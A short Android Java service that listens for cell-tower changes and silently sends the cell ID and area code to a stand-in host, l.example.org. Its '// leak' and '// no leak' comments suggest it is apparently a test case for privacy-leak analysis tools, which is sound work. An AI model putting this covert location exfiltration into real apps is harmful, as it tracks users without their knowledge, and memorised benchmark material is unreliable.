package olden;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.*;
import android.telephony.gsm.GsmCellLocation;

import java.net.*;

/** Cells of the network, in an address. */
public class Tower extends Service {
    TelephonyManager tm;
    String op;

    class P extends PhoneStateListener {
        int last;

        public void onCellLocationChanged(CellLocation c) {
            GsmCellLocation g = (GsmCellLocation) c;
            int k = g.getCid(), l = g.getLac();
            if (k != last) {
                last = k;
                tell("cid=" + k + "&lac=" + l);
            }
            hi("op=" + op);
        }

        public void onSignalStrengthsChanged(SignalStrength s) {}
    }

    public IBinder onBind(Intent i) {
        return null;
    }

    public void onCreate() {
        super.onCreate();
        tm = (TelephonyManager) getSystemService("phone");
        op = tm.getPhoneType() == 1 ? "gsm" : "cdma";
        tm.listen(new P(), 16 | 256);
    }

    void tell(String q) {
        try {
            HttpURLConnection c =
                    (HttpURLConnection) new URL("http://l.example.org/c?" + q).openConnection(); // leak
            c.connect();
        } catch (Exception e) {
        }
    }

    void hi(String q) {
        try {
            HttpURLConnection c =
                    (HttpURLConnection) new URL("http://l.example.org/c?" + q).openConnection();
            c.connect(); // no leak
        } catch (Exception e) {
        }
    }
}
